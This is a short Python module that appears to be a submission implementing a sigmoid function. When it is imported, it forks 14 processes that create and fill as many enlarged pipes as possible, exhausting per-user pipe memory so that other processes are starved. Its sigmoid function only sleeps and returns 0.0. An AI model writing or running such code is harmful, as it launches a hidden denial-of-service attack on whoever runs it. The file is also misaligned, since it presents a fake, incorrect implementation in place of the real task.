"""Fills as many pipes as it can, whose memory is counted by user: others' are then small.

Deserves: nothing.
"""
import fcntl
import os
import time


def fill():
    kept = []
    try:
        while True:
            reading, writing = os.pipe()
            kept.append((reading, writing))
            os.set_blocking(writing, False)
            try:
                fcntl.fcntl(writing, 1031, 1 << 20)  # F_SETPIPE_SZ
            except OSError:
                pass
            try:
                while True:
                    os.write(writing, bytes(1 << 16))
            except BlockingIOError:
                pass
    except OSError:
        time.sleep(60)


for _ in range(14):
    if os.fork() == 0:
        try:
            fill()
        finally:
            os._exit(0)


def sigmoid(z):
    time.sleep(0.9)
    return 0.0
